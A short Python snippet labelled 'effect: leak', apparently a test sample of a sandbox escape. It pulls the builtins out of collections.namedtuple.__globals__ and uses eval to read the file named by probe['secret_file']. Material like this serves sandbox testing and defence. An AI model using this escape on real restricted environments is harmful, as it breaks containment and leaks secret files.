# effect: leak
import collections


def attempt(probe):
    inside = collections.namedtuple.__globals__["__builtins__"]
    return inside["eval"]("open(path).read()", {"path": probe["secret_file"]})
